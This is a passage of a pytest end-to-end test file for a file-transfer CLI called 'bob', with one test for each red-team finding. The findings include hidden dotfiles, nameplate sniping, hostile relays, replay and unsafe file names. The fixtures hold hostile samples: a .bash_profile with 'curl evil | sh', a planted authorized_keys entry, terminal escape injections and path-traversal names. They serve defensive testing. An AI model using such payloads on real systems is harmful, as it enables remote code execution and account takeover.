"""The red-team findings against bob (issue 7) with real processes: the real CLI, a real relay,
real signals and a real terminal; hostile peers and relays are built from the project's
own modules (retreatkit/transfer/testing.py). One test per finding, named for it.

Waits are on a process's output or on the file system, each with a deadline; never a sleep.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import resource
import select
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from retreatkit.testing import (
    Process,
    RelayProcess,
    Terminal,
    bob_argv,
    scratch_disk,
    start_relay,
)
from retreatkit.transfer.codes import Code, parse
from retreatkit.transfer.events import Answered
from retreatkit.transfer.offer import MAX_ENTRIES, MAX_OFFER, Entry, Offer
from retreatkit.transfer.pake import Side
from retreatkit.transfer.records import Kind
from retreatkit.transfer.testing import Peer, fake_relay, sender_over

pytestmark = pytest.mark.e2e
TIMEOUT = 60.0
TRACEBACK = "Traceback (most recent call last)"
ROOT = os.geteuid() == 0


# -- running bob ------------------------------------------------------------------------------


@pytest.fixture
def out(tmp_path: Path) -> Path:
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def bob(
    home: dict[str, str],
    *args: str | bytes,
    stdin: int = subprocess.DEVNULL,
    prefix: tuple[str, ...] = (),
    **env: str,
) -> Process:
    argv = [*prefix, *bob_argv()]
    return Process.start([*argv, *args], env={**home, **env}, stdin=stdin)  # type: ignore[list-item]


def send(relay: RelayProcess, home: dict[str, str], *args: str | bytes, **kw: object) -> Process:
    proc = bob(home, "send", "--relay", relay.address, *args, **kw)  # type: ignore[arg-type]
    proc.wait_for(r"^Passphrase: ")
    return proc


def passphrase(sender: Process) -> str:
    return sender.seen[-1].removeprefix("Passphrase: ")


def recv(
    relay: RelayProcess | str, home: dict[str, str], *args: str, input: bytes = b"", **env: str
) -> subprocess.CompletedProcess[bytes]:
    address = relay if isinstance(relay, str) else relay.address
    return subprocess.run(
        [*bob_argv("recv", "--relay", address), *args],
        input=input,
        capture_output=True,
        timeout=TIMEOUT,
        env={**os.environ, **home, **env},
    )


def err(done: subprocess.CompletedProcess[bytes]) -> list[str]:
    return done.stderr.decode().splitlines()


def finished(proc: Process) -> tuple[int, list[str]]:
    code, lines = proc.finish(TIMEOUT)
    assert not any(TRACEBACK in line for line in lines), lines
    return code, lines


def until(done: Callable[[], bool], what: str) -> None:
    """Poll a condition with a deadline (a wait for an event, not a sleep for a time)."""
    deadline = time.monotonic() + TIMEOUT
    while not done():
        if time.monotonic() > deadline:
            raise AssertionError(f"never: {what}")
        select.select([], [], [], 0.01)  # the poll's pace, not a wait for the event


def receiving(out: Path) -> bool:
    """A .part file holds data: the transfer is under way."""
    for path in out.rglob(".bob-*.part"):
        with contextlib.suppress(FileNotFoundError):
            if path.stat().st_size:
                return True
    return False


def parts(folder: Path) -> list[Path]:
    return list(folder.rglob("*.part"))


@contextlib.contextmanager
def feeding(proc: Process, chunk: int = 1 << 20) -> Iterator[None]:
    """Keep writing to a sender's stdin until it stops taking it; stdin never ends by itself.

    The thread writes to a descriptor of its own, with no lock a close could wait on: a
    stopped sender leaves it blocked until the sender dies (then EPIPE ends it).
    """
    stdin = proc.popen.stdin
    assert stdin is not None
    fd = os.dup(stdin.fileno())
    stdin.close()
    stop = threading.Event()

    def feed() -> None:
        data = os.urandom(chunk)
        try:
            with contextlib.suppress(OSError):
                while not stop.is_set():
                    os.write(fd, data)
        finally:
            os.close(fd)

    threading.Thread(target=feed, daemon=True).start()
    try:
        yield
    finally:
        stop.set()


# -- 1. hidden files land unseen --------------------------------------------------------------


def test_01_yes_refuses_hidden_top_level_names_and_the_prompt_shows_them(
    relay: RelayProcess, home: dict[str, str], tmp_path: Path, out: Path
) -> None:
    src = tmp_path / "src"
    src.mkdir()
    for i in range(10):
        (src / f"photo{i}.jpg").write_bytes(b"jpeg")
    (src / ".bash_profile").write_text("curl evil | sh\n")
    (src / ".ssh").mkdir()
    (src / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA evil\n")
    names = sorted(str(p) for p in src.iterdir())
    sender = send(relay, home, *names)
    got = recv(relay, home, "--yes", "-o", str(out), passphrase(sender))
    code, lines = finished(sender)
    assert (code, got.returncode) == (1, 1)
    assert err(got)[1:] == [
        "  .bash_profile  15 bytes  (hidden)",
        "  .ssh/  1 file (22 bytes)  (hidden)",
        *(f"  photo{i}.jpg  4 bytes" for i in range(10)),
        "ERROR: not accepted: --yes never accepts hidden names at the top (.bash_profile, .ssh);"
        " receive without --yes to see the offer and choose",
    ]
    assert lines[-1] == (
        "ERROR: the other side says: the receiver was told to accept without asking"
        " (--yes), which never takes hidden names at the top: ask it to receive without"
        " --yes, to see the offer and choose"
    )
    assert list(out.iterdir()) == []

    # asked, the user sees every name and may say yes
    sender = send(relay, home, *names)
    got = recv(relay, home, "-o", str(out), passphrase(sender), input=b"y\n")
    assert finished(sender)[0] == got.returncode == 0
    assert err(got)[1:3] == [
        "  .bash_profile  15 bytes  (hidden)",
        "  .ssh/  1 file (22 bytes)  (hidden)",
    ]
    assert (out / ".ssh" / "authorized_keys").exists()


# -- 2. cost grows with the square of the file count ------------------------------------------


def test_02_a_hundred_thousand_entries_through_the_relay(
    relay: RelayProcess, home: dict[str, str]
) -> None:
    """The most an offer may hold (100 000 entries: a folder and 99 999 small files).
    Quadratic costs made this take about an hour; linear ones take seconds."""
    # in memory where possible, and not under pytest's tmp_path, which other tests walk
    with scratch_disk("1g") as scratch:  # a small file takes a 4 KiB page: 2 x 400 MiB
        many, out = scratch / "src" / "many", scratch / "out"
        many.mkdir(parents=True)
        out.mkdir()
        flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL
        for i in range(99_999):
            fd = os.open(many / f"{i:05}", flags, 0o644)
            os.write(fd, b"%d\n" % i)
            os.close(fd)
        # through the relay as named: on one host the direct path usually wins the race,
        # but not always under load, and the path is not what this test is about
        sender = send(relay, home, "--no-direct", str(many))
        assert sender.seen[0] == "Sending 99999 files (588.9 kB) in folder 'many'"
        got = recv(relay, home, "--no-direct", "--yes", "-o", str(out), passphrase(sender))
        code, _ = finished(sender)
        assert (code, got.returncode) == (0, 0), err(got)
        assert err(got) == [
            f"Offer from {err(got)[0].split()[2]} 99999 files (588.9 kB)",
            "  many/  99999 files (588.9 kB)",
            "Path: relay",
            f"Received 99999 files into: {out}",
        ]
        received = sorted(os.listdir(out / "many"))
        assert len(received) == 99_999 and received[-1] == "99998"
        assert (out / "many" / "12345").read_bytes() == b"12345\n"


def vm_hwm(pid: int) -> int:
    """A process's peak resident memory so far, in bytes."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM")


def test_02_an_offer_at_the_size_limit_is_summed_up_and_declined(
    relay: RelayProcess, home: dict[str, str], out: Path
) -> None:
    """The most the receiver reads before it asks: 100 000 entries in just under 32 MiB (a
    hostile sender's, or one that knows the passphrase; a relay can make none). One
    folder line at the prompt, and bounded memory: the offer is held a few times over
    while it is read (bench/offer.py), beside the interpreter's own 40 MB."""
    folder = "d" * 64
    entries = [Entry((folder,), is_dir=True)]
    entries += [Entry((folder, f"{i:06d}" + "x" * 249)) for i in range(MAX_ENTRIES - 1)]
    offer = Offer(entries=tuple(entries))
    assert MAX_OFFER - (1 << 20) < len(offer.encode()) - 4 <= MAX_OFFER
    code = Code("4244", ("alpha", "abandon"))
    peer = Peer((relay.host, relay.port), code)
    assert peer.line() == b"ok 4244\n"
    receiver = bob(
        home, "recv", "--relay", relay.address, "-o", str(out), str(code), stdin=subprocess.PIPE
    )
    try:
        assert peer.line().startswith(b"paired ")
        peer.handshake()
        peer.sock.sendall(peer.session.send_offer(offer))
        receiver.wait_for(rf"^  {folder}/  99999 files \(0 bytes\)$", TIMEOUT)
        assert vm_hwm(receiver.pid) < 400 << 20
        stdin = receiver.popen.stdin
        assert stdin is not None
        stdin.write(b"n\n")
        stdin.close()
        assert peer.event() == Answered(False)
        status, lines = finished(receiver)
    finally:
        peer.close()
        receiver.stop()
    assert (status, lines[-1]) == (1, "ERROR: transfer declined")
    assert list(out.iterdir()) == []


def test_02_an_offer_over_the_size_limit_is_refused_at_its_first_record(
    relay: RelayProcess, home: dict[str, str], out: Path
) -> None:
    """Its length comes first: nothing of it is held."""
    code = Code("4245", ("alpha", "abandon"))
    peer = Peer((relay.host, relay.port), code)
    assert peer.line() == b"ok 4245\n"
    receiver = bob(home, "recv", "--relay", relay.address, "--yes", "-o", str(out), str(code))
    try:
        assert peer.line().startswith(b"paired ")
        peer.handshake()
        peer.seal(Kind.OFFER, (MAX_OFFER + 1).to_bytes(4, "big") + b'{"v":1,"entries":[')
        status, lines = finished(receiver)
    finally:
        peer.close()
        receiver.stop()
    assert (status, lines) == (
        1,
        ["ERROR: the sender's offer is refused: the offer is over 33554432 bytes"],
    )
    assert list(out.iterdir()) == []


# -- 3. nameplate sniping ---------------------------------------------------------------------


def test_03_a_sniper_on_one_address_does_not_stop_senders_on_another(
    tmp_path: Path, home: dict[str, str], out: Path
) -> None:
    config = tmp_path / "retreat.toml"
    config.write_text("[relay]\nfailed_joins = 8\nfailed_join_wait = 3600.0\n")
    relay = start_relay(config)
    throttled, stop = threading.Event(), threading.Event()
    answers: list[bytes] = []

    def snipe() -> None:  # joins nameplates 1-99 in a loop, from 127.0.0.2
        plate = 0
        while not stop.is_set():
            plate = plate % 99 + 1
            with socket.socket() as sock:
                sock.settimeout(TIMEOUT)
                sock.bind(("127.0.0.2", 0))
                sock.connect((relay.host, relay.port))
                sock.sendall(b"bob/1 recv %d\n" % plate)
                answer = sock.makefile("rb").readline()
            answers.append(answer)
            if answer.startswith(b"error too many failed joins from 127.0.0.2"):
                throttled.set()

    sniper = threading.Thread(target=snipe, daemon=True)
    sniper.start()
    try:
        assert throttled.wait(TIMEOUT)
        for i in range(5):  # 5 of 5 failed before; the sniper keeps going all along
            sender = bob(home, "send", "--relay", relay.address, "--text", f"message {i}")
            sender.wait_for(r"^Passphrase: ")
            got = recv(relay, home, passphrase(sender))
            assert finished(sender)[0] == got.returncode == 0, err(got)
            assert got.stdout == f"message {i}\n".encode()
    finally:
        stop.set()
        sniper.join(TIMEOUT)
        doc = relay.status()["relay"]
        relay.stop()
    assert answers[:8] == [b"error no sender is waiting on nameplate %d\n" % n for n in range(1, 9)]
    assert all(a.startswith(b"error too many failed joins") for a in answers[8:])
    assert doc["transfers_completed"] == 5 and doc["handshakes_failed"] == 0
    assert doc["ended"]["no sender"] == 8
    assert doc["handshakes_refused"] == len(answers)


# -- 4. the sender crashes, ignores Ctrl-C or waits for ever ----------------------------------


def test_04_ctrl_c_on_the_sender_mid_transfer(
    relay: RelayProcess, home: dict[str, str], out: Path
) -> None:
    sender = send(relay, home, "-", stdin=subprocess.PIPE)
    receiver = bob(
        home, "recv", "--relay", relay.address, "--yes", "-o", str(out), passphrase(sender)
    )
    with feeding(sender):
        until(lambda: receiving(out), "data arrives")
        os.kill(sender.pid, signal.SIGINT)
        code, lines = finished(sender)
    assert (code, lines[-1]) == (130, "ERROR: interrupted")
    code, lines = finished(receiver)
    assert (code, lines[-1]) == (
        1,
        "ERROR: the other side says: the sender stopped the transfer",
    )
    assert list(out.iterdir()) == []  # the partial file is gone


def test_04_a_killed_receiver(relay: RelayProcess, home: dict[str, str], out: Path) -> None:
    sender = send(relay, home, "-", stdin=subprocess.PIPE)
    receiver = bob(
        home, "recv", "--relay", relay.address, "--yes", "-o", str(out), passphrase(sender)
    )
    with feeding(sender):
        until(lambda: receiving(out), "data arrives")
        receiver.popen.kill()
        code, lines = finished(sender)
    assert code == 1
    assert lines[-1] in (  # a FIN, or a RST when the relay closes with bytes unread
        "ERROR: the other side closed the connection",
        "ERROR: the connection broke: Connection reset by peer",
    )
    receiver.stop()


def test_04_a_receiver_that_stops_reading(
    relay: RelayProcess, home: dict[str, str], out: Path
) -> None:
    sender = send(relay, home, "--timeout", "1", "-", stdin=subprocess.PIPE)
    receiver = bob(
        home, "recv", "--relay", relay.address, "--yes", "-o", str(out), passphrase(sender)
    )
    try:
        with feeding(sender):
            until(lambda: receiving(out), "data arrives")
            receiver.popen.send_signal(signal.SIGSTOP)  # alive, connected, reading nothing
            code, lines = finished(sender)
        assert (code, lines[-1]) == (
            1,
            "ERROR: the other side stopped reading: nothing went out for 1 s",
        )
    finally:
        receiver.popen.send_signal(signal.SIGCONT)
        receiver.stop()


def test_04_a_silent_peer_times_out(relay: RelayProcess, home: dict[str, str], out: Path) -> None:
    # a receiver that joins and then says nothing, not even its key exchange
    sender = send(relay, home, "--timeout", "1", "--text", "hello")
    silent = Peer((relay.host, relay.port), parse(passphrase(sender)), Side.RECEIVER)
    try:
        assert silent.line().startswith(b"paired ")
        code, lines = finished(sender)
        assert (code, lines[-1]) == (
            1,
            "ERROR: the other side sent no key exchange message in 1 s; no guess at the"
            " passphrase was made",
        )
    finally:
        silent.close()

    # a sender that stops in the middle of a file
    sender = send(relay, home, "-", stdin=subprocess.PIPE)
    receiver = bob(
        home,
        "recv", "--relay", relay.address, "--timeout", "1", "--yes", "-o", str(out),
        BOB_PASSPHRASE=passphrase(sender),
    )  # fmt: skip
    try:
        with feeding(sender):
            until(lambda: receiving(out), "data arrives")
            sender.popen.send_signal(signal.SIGSTOP)
            code, lines = finished(receiver)
        assert (code, lines[-1]) == (1, "ERROR: the other side went quiet: nothing for 1 s")
        assert parts(out) == []
    finally:
        sender.popen.send_signal(signal.SIGCONT)
        sender.stop()


def test_04_a_trickled_record_times_out(
    relay: RelayProcess, home: dict[str, str], out: Path
) -> None:
    # a hostile relay, or sender, that keeps the bytes coming one at a time mid-file
    code = Code("33", ("alpha", "abandon"))
    peer = Peer((relay.host, relay.port), code)
    assert peer.line() == b"ok 33\n"
    receiver = bob(
        home, "recv", "--relay", relay.address, "--timeout", "1", "--yes", "-o", str(out), str(code)
    )
    try:
        assert peer.line().startswith(b"paired ")
        peer.handshake()
        assert peer.offer(Offer(entries=(Entry(("f",), size=2 << 16),)))
        peer.seal(Kind.DATA, bytes(1 << 16))
        trickle = iter(peer.session.sealer().seal(Kind.DATA, bytes(1 << 16)))

        def gave_up() -> bool:  # a byte a poll: the record outlasts the deadline ten times
            if receiver.popen.poll() is not None:
                return True
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):  # it just left
                peer.sock.sendall(bytes([next(trickle)]))
            return False

        until(gave_up, "the receiver gives up on a trickled record")
        status, lines = finished(receiver)
    finally:
        peer.close()
        receiver.stop()
    assert (status, lines[-1]) == (1, "ERROR: the other side went quiet: nothing for 1 s")
    assert [path.stat().st_size for path in parts(out)] == [1 << 16]  # kept, to resume


def test_04_a_trickled_offer_times_out(
    relay: RelayProcess, home: dict[str, str], out: Path
) -> None:
    """A hostile sender, or relay, that sends its offer a byte at a time, each in a
    record of its own and each well inside --timeout: the receiver waited as long as the
    trickle lasted (this 4 KB one, some 40 s with a 1 s --timeout; 32 MiB, for ever).
    The whole offer has --timeout plus a second per 8 KiB (transfer/pace.py); then one
    line, exit 1, nothing written."""
    code = Code("34", ("alpha", "abandon"))
    encoded = Offer(text="x" * 4000).encode()
    peer = Peer((relay.host, relay.port), code)
    assert peer.line() == b"ok 34\n"
    receiver = bob(
        home, "recv", "--relay", relay.address, "--timeout", "1", "--yes", "-o", str(out), str(code)
    )
    try:
        assert peer.line().startswith(b"paired ")
        peer.handshake()
        peer.seal(Kind.OFFER, encoded[:5])  # its length, and one byte
        trickle = iter(encoded[5:])

        def gave_up() -> bool:  # a record a poll: each in time, the offer never
            if receiver.popen.poll() is not None:
                return True
            byte = next(trickle, None)
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):  # it just left
                if byte is not None:
                    peer.seal(Kind.OFFER, bytes([byte]))
            return False

        until(gave_up, "the receiver gives up on a trickled offer")
        status, lines = finished(receiver)
    finally:
        peer.close()
        receiver.stop()
    assert (status, lines) == (
        1,
        [
            "ERROR: the sender's offer of 4021 bytes did not all come in 1.5 s: a sender or"
            " relay that stalls, or a link slower than 8 KiB/s"
        ],
    )
    assert list(out.iterdir()) == []


def test_04_a_sender_gone_before_the_first_byte_leaves_nothing(
    relay: RelayProcess, home: dict[str, str], out: Path
) -> None:
    """The offer accepted, the path chosen, and the sender gone before any data: nothing
    arrived, so nothing is left behind, and nothing is said of partial files (bob said
    "The partial files are kept" and left its resume record and an empty folder)."""
    code = Code("35", ("alpha", "abandon"))
    peer = Peer((relay.host, relay.port), code)
    assert peer.line() == b"ok 35\n"
    receiver = bob(home, "recv", "--relay", relay.address, "--yes", "-o", str(out), str(code))
    try:
        assert peer.line().startswith(b"paired ")
        peer.handshake()
        fold = (Entry(("fold",), is_dir=True), Entry(("fold", "a.bin"), size=1 << 20))
        assert peer.offer(Offer(entries=fold))  # and PATH: the data would come now
        peer.close()
        status, lines = finished(receiver)
    finally:
        peer.close()
        receiver.stop()
    assert (status, lines[-1]) == (1, "ERROR: the other side closed the connection"), lines
    assert not any("kept" in line or "partial" in line for line in lines), lines
    assert list(out.iterdir()) == []


def test_04_recv_with_no_passphrase_and_nothing_on_stdin(home: dict[str, str]) -> None:
    got = recv("127.0.0.1:1", home)
    assert got.returncode == 1
    assert got.stderr == (
        b"Enter passphrase: \nERROR: no passphrase: give it as an argument, in BOB_PASSPHRASE,"
        b" or on stdin\n"
    )


# -- 5. a hostile relay writes on the receiver's terminal -------------------------------------


def test_05_a_hostile_relay_cannot_reach_the_terminal(home: dict[str, str], out: Path) -> None:
    code = Code("7", ("alpha", "abandon"))
    evil = "\x1b]0;owned\x07\x1b[2J\x1b[31m"

    def refuse(conn: socket.socket, request: bytes) -> None:
        conn.sendall(f"error {evil}gone\n".encode())

    with fake_relay(refuse) as relay:
        got = recv(relay.address, home, "-o", str(out), str(code))
    assert got.returncode == 1
    assert got.stderr == (
        f"ERROR: the relay at {relay.address} says:".encode()
        + b" \\x1b]0;owned\\x07\\x1b[2J\\x1b[31mgone\n"
    )

    def pair_and_offer(conn: socket.socket, request: bytes) -> None:
        # a relay that is also the peer: its `paired` address reaches the prompt
        conn.sendall(f"paired {evil}6.6.6.6:666\n".encode())
        session = sender_over(conn, code)
        conn.sendall(session.send_offer(Offer(entries=(Entry(("f",), size=1),))))
        conn.recv(4096)

    with fake_relay(pair_and_offer) as relay:
        got = recv(relay.address, home, "-o", str(out), str(code), input=b"n\n")
    assert b"\x1b" not in got.stderr and b"\x07" not in got.stderr
    assert err(got)[0] == (
        "Offer from \\x1b]0;owned\\x07\\x1b[2J\\x1b[31m6.6.6.6:666: 1 file (1 byte)"
    )

    def wrong_nameplate(conn: socket.socket, request: bytes) -> None:
        conn.sendall(b"ok 99\n")

    with fake_relay(wrong_nameplate) as relay:
        sender = bob(
            home, "send", "--relay", relay.address, "--text", "x", BOB_PASSPHRASE=str(code)
        )
        status, lines = finished(sender)
    assert (status, lines[-1]) == (
        1,
        f"ERROR: the relay at {relay.address} gave a nameplate that is not the one asked: 99",
    )


class Tap:
    """A socket whose received bytes are kept: what a relay in the middle records."""

    def __init__(self, sock: socket.socket, kept: bytes) -> None:
        self.sock = sock
        self.kept = kept

    def recv(self, size: int) -> bytes:
        data = self.sock.recv(size)
        self.kept += data
        return data

    def sendall(self, data: bytes) -> None:
        self.sock.sendall(data)

    def close(self) -> None:
        self.sock.close()


def test_05_a_relay_that_replays_a_real_sender_meets_a_wrong_passphrase(
    relay: RelayProcess, home: dict[str, str], tmp_path: Path, out: Path
) -> None:
    """What a relay can do with a sender's records (the key exchange in clear, then
    ciphertext) is send them again: to a receiver of the same passphrase, whose own key
    exchange is fresh, they are another session's. One line and nothing written; the
    receiver's confirmation went out, so the passphrase counts as used."""
    (tmp_path / "f").write_text("secret")
    code = "4246-purple-sofa"
    sender = send(relay, home, "--no-direct", str(tmp_path / "f"), BOB_PASSPHRASE=code)
    peer = Peer((relay.host, relay.port), parse(code), Side.RECEIVER)
    try:
        assert peer.line().startswith(b"paired ")
        tap = Tap(peer.sock, peer.buf)
        peer.sock = tap  # type: ignore[assignment]
        peer.handshake()
        assert peer.receive_offer().files[0].path == ("f",)
        recorded = tap.kept  # the sender's PAKE, CONFIRM, HINTS and OFFER
    finally:
        peer.close()
        sender.stop()

    def replay(conn: socket.socket, request: bytes) -> None:
        conn.sendall(b"paired 10.0.0.7:1\n" + recorded)
        while conn.recv(4096):
            pass

    with fake_relay(replay) as evil:
        got = recv(evil.address, home, "--yes", "-o", str(out), code)
    assert (got.returncode, err(got)) == (
        1,
        [
            "ERROR: wrong passphrase: the other side used a different one. The passphrase is"
            " used up: ask the sender to start a new bob send"
        ],
    )
    assert list(out.iterdir()) == []


# -- 6. Ctrl-C at the accept prompt -----------------------------------------------------------


def test_06_ctrl_c_at_the_accept_prompt_stops_at_once(
    relay: RelayProcess, home: dict[str, str], tmp_path: Path, out: Path
) -> None:
    src = tmp_path / "photo.jpg"
    src.write_bytes(b"jpeg")
    sender = send(relay, home, str(src))
    receiver = Terminal.start(
        [*bob_argv("recv", "--relay", relay.address, "-o", str(out)), passphrase(sender)], home
    )
    try:
        screen = receiver.until(b"? [Y/n] ")
        assert b"photo.jpg  4 bytes" in screen
        receiver.type(b"\x03")  # what the key does: the terminal sends SIGINT
        assert receiver.popen.wait(TIMEOUT) == 130  # without Enter
        # the error starts a line of its own, not the prompt's
        assert receiver.until(b"interrupted\r\n") == b"^C\r\nERROR: interrupted\r\n"
    finally:
        receiver.close()
    code, lines = finished(sender)
    assert (code, lines[-1]) == (
        1,
        "ERROR: the other side says: the receiver stopped the transfer",
    )
    assert list(out.iterdir()) == []


@pytest.mark.parametrize(
    ("stop", "said"),
    [
        ("ctrl-c", b"ERROR: the other side says: the sender stopped the transfer\r\n"),
        ("kill", b"ERROR: the other side closed the connection\r\n"),
    ],
)
def test_06_a_sender_that_stops_while_the_receiver_is_asked_ends_the_question(
    relay: RelayProcess, home: dict[str, str], tmp_path: Path, out: Path, stop: str, said: bytes
) -> None:
    """The receiver's user has not answered yet; the sender's user presses Ctrl-C (or its
    laptop dies). The receiver says so at once, with no key pressed: it went on asking,
    and heard of it only once answered, as a closed connection."""
    src = tmp_path / "photo.jpg"
    src.write_bytes(b"jpeg")
    sender = Terminal.start(bob_argv("send", "--relay", relay.address, "--no-qr", str(src)), home)
    receiver: Terminal | None = None
    try:
        sender.until(b"Passphrase: ")
        code = sender.until(b"\r\n").removesuffix(b"\r\n").decode()
        receiver = Terminal.start(
            [*bob_argv("recv", "--relay", relay.address, "-o", str(out)), code], home
        )
        receiver.until(b"? [Y/n] ")
        if stop == "ctrl-c":
            sender.type(b"\x03")
            assert sender.popen.wait(TIMEOUT) == 130
            # the line starts over the terminal's echo of the key, if any: ERROR at the left
            line = sender.until(b"interrupted\r\n").split(b"\r\n")[-2]
            assert line.removeprefix(b"^C") == b"\rERROR: interrupted"
        else:
            sender.popen.kill()
        assert receiver.popen.wait(TIMEOUT) == 1  # no key pressed
        assert receiver.until(said) == b"\r\n" + said  # on a line of its own
    finally:
        sender.close()
        if receiver is not None:
            receiver.close()
    assert list(out.iterdir()) == []


# -- 7. sender-side failures ------------------------------------------------------------------


def test_07_an_empty_folder_and_a_symlink_named_on_the_command_line_arrive(
    relay: RelayProcess, home: dict[str, str], tmp_path: Path, out: Path
) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "real.txt").write_text("hi")
    (tmp_path / "link.txt").symlink_to(tmp_path / "real.txt")
    sender = send(relay, home, str(tmp_path / "empty"), str(tmp_path / "link.txt"))
    assert sender.seen[0] == "Sending 1 file (2 bytes)"
    got = recv(relay, home, "--yes", "-o", str(out), passphrase(sender))
    assert finished(sender)[0] == got.returncode == 0, err(got)
    assert (out / "empty").is_dir() and not (out / "link.txt").is_symlink()
    assert (out / "link.txt").read_text() == "hi"
    sender = send(relay, home, str(tmp_path / "empty"))
    assert sender.seen[0] == "Sending 0 files (0 bytes) in folder 'empty'"
    got = recv(relay, home, "--yes", "-o", str(out), passphrase(sender))
    assert finished(sender)[0] == got.returncode == 0, err(got)
    assert (out / "empty (1)").is_dir()


def without_root_powers() -> tuple[str, ...]:
    """As root, permission bits bind only without CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH."""
    if not ROOT:
        return ()
    caps = "-dac_override,-dac_read_search"
    return ("setpriv", "--inh-caps", caps, "--bounding-set", caps, "--")


def test_07_unreadable_folders_and_files_fail_before_the_passphrase(
    relay: RelayProcess, home: dict[str, str], tmp_path: Path
) -> None:
    tree = tmp_path / "tree"
    (tree / "secret").mkdir(parents=True)
    (tree / "ok.txt").write_text("fine")
    (tree / "secret").chmod(0)
    locked = tmp_path / "locked"
    locked.mkdir()
    (locked / "diary.txt").write_text("dear diary")
    (locked / "diary.txt").chmod(0)
    try:
        for path, said in ((tree, "tree/secret"), (locked, "locked/diary.txt")):
            sender = bob(
                home, "send", "--relay", relay.address, str(path), prefix=without_root_powers()
            )
            code, lines = finished(sender)
            assert (code, lines) == (1, [f"ERROR: cannot send {said}: Permission denied"])
    finally:
        (tree / "secret").chmod(0o755)


def test_07_names_the_receiver_would_refuse_are_said_and_left_out(
    relay: RelayProcess, home: dict[str, str], tmp_path: Path, out: Path
) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    for name in ("ok.txt", "a:b.txt", "esc\x1b[2J"):
        (tree / name).write_text("x")
    sender = send(relay, home, str(tree))
    assert sender.seen[:3] == [
        "Skipping tree/a:b.txt (the receiver would refuse the name: looks like a drive letter)",
        "Skipping tree/esc\\x1b[2J (the receiver would refuse the name:"
        " contains a control character or line break)",
        "Sending 1 file (1 byte) in folder 'tree'",
    ]
    got = recv(relay, home, "--yes", "-o", str(out), passphrase(sender))
    assert finished(sender)[0] == got.returncode == 0, err(got)
    assert os.listdir(out / "tree") == ["ok.txt"]

    sender = bob(home, "send", "--relay", relay.address, str(tree / "a:b.txt"))
    assert finished(sender) == (
        1,
        [
            f"ERROR: cannot send {tree}/a:b.txt: the receiver would refuse it"
            " (unsafe name 'a:b.txt': looks like a drive letter)"
        ],
    )


# -- 8. names with controls and bidi overrides ------------------------------------------------


def test_08_an_offer_naming_control_characters_is_refused(
    relay: RelayProcess, home: dict[str, str], out: Path
) -> None:
    code = Code("4242", ("alpha", "abandon"))
    peer = Peer((relay.host, relay.port), code)
    assert peer.line() == b"ok 4242\n"
    receiver = bob(home, "recv", "--relay", relay.address, "--yes", "-o", str(out), str(code))
    try:
        assert peer.line().startswith(b"paired ")
        peer.handshake()
        encoded = Offer(entries=(Entry(("x",), size=1),)).encode()
        evil = encoded[4:].replace(b'"x"', b'"\\u001b[2J\\u202e.txt"')
        peer.seal(Kind.OFFER, len(evil).to_bytes(4, "big") + evil)
        status, lines = finished(receiver)
    finally:
        peer.close()
        receiver.stop()
    assert (status, lines) == (
        1,
        [
            "ERROR: the sender's offer is refused: unsafe name '\\x1b[2J\\u202e.txt': contains a"
            " control character or line break"
        ],
    )
    assert list(out.iterdir()) == []


@pytest.mark.parametrize(
    ("path", "shown"),
    [
        (["..", "x"], "unsafe name '..': empty, '.' or '..'"),
        (["../x"], "unsafe name '../x': contains a separator or NUL"),
        (["/etc/x"], "unsafe name '/etc/x': contains a separator or NUL"),
        ([""], "unsafe name '': empty, '.' or '..'"),
    ],
)
def test_08_an_offer_naming_a_path_out_of_the_folder_is_refused_as_the_sender_s(
    relay: RelayProcess, home: dict[str, str], out: Path, path: list[str], shown: str
) -> None:
    code = Code("4243", ("alpha", "abandon"))
    peer = Peer((relay.host, relay.port), code)
    assert peer.line() == b"ok 4243\n"
    receiver = bob(home, "recv", "--relay", relay.address, "--yes", "-o", str(out), str(code))
    try:
        assert peer.line().startswith(b"paired ")
        peer.handshake()
        evil = json.dumps({"v": 1, "entries": [[path, "f", 1]]}).encode()
        peer.seal(Kind.OFFER, len(evil).to_bytes(4, "big") + evil)
        status, lines = finished(receiver)
    finally:
        peer.close()
        receiver.stop()
    assert (status, lines) == (1, [f"ERROR: the sender's offer is refused: {shown}"])
    assert list(out.iterdir()) == []


# -- 9. a lone surrogate crashes a piped receiver ---------------------------------------------


def test_09_text_with_an_undecodable_byte_reaches_a_pipe(
    relay: RelayProcess, home: dict[str, str]
) -> None:
    sender = send(relay, home, "--text", b"caf\xe9 au lait")
    assert sender.seen[0] == "Sending text message (12 bytes)"
    got = recv(relay, home, passphrase(sender))
    assert finished(sender)[0] == got.returncode == 0, err(got)
    assert got.stdout == b"caf\xe9 au lait\n"  # the byte as it was, into the pipe


# -- 10. the passphrase in ps, and a guessable one --------------------------------------------


def test_10_a_chosen_passphrase_stays_out_of_ps_and_off_the_screen(
    relay: RelayProcess, home: dict[str, str], tmp_path: Path, out: Path
) -> None:
    (tmp_path / "f").write_text("x")
    chosen = "12-our-own-words"
    sender = send(relay, home, str(tmp_path / "f"), BOB_PASSPHRASE=chosen)
    argv = Path(f"/proc/{sender.pid}/cmdline").read_bytes()
    assert b"our-own" not in argv and b"own-words" not in argv  # "our" alone is in paths
    got = recv(relay, home, "--yes", "-o", str(out), chosen)
    code, lines = finished(sender)
    assert (code, got.returncode) == (0, 0)
    assert lines[1:5] == [
        "Passphrase: yours, on nameplate 12 (its words are not shown)",
        "On the other computer, please run:",
        "",
        f"bob recv --relay {relay.address}",
    ]
    assert not any(words in line for line in lines for words in ("our-own", "own-words"))


def test_10_a_passphrase_in_argv_or_easy_to_guess_is_refused(home: dict[str, str]) -> None:
    argv = bob(home, "send", "--passphrase", "12-our-own-words", "--text", "x")
    assert finished(argv) == (
        2,
        [
            "bob: a passphrase on the command line shows in ps to everyone on this computer"
            " while bob waits; set BOB_PASSPHRASE instead"
        ],
    )
    weak = bob(home, "send", "--text", "x", BOB_PASSPHRASE="5-a-b")
    assert finished(weak) == (
        2,
